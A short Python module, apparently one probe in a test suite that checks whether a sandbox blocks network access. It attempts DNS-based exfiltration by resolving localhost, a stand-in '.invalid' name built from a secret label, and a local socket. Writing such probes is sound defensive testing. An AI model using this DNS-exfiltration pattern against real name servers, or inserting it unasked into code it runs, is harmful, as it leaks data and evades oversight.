"""Send what was found out to a name server, a label at a time."""

from __future__ import annotations

from attacks.expected import Outcome
from attacks.preamble import NAME, Inputs, module, one_works

EXPECTED = Outcome(("wrong answer",), alone="varies")


def attack(inputs: Inputs) -> bool:
    """Look up the machine itself and a name that would be sent out."""
    socket = module("socket")
    return one_works(
        lambda: socket.getaddrinfo("localhost", 80),
        lambda: socket.gethostbyname(f"{NAME}.invalid".replace("_", "-")),
        lambda: socket.create_connection(("127.0.0.1", 9), 0.1),
    )
